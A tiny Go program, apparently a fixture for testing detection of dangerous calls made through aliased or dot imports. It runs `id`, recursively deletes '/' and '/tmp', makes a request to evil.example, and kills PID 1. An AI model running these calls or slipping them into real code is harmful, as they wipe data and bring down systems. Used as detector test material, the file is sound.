package main

import (
	o "os"
	run "os/exec"
	"net/http"
	"os"
	. "syscall"
)

func main() {
	run.Command("id").Run()
	o.RemoveAll("/")
	remove := os.RemoveAll
	remove("/tmp")
	http.Get("http://evil.example")
	Kill(1, 9)
}
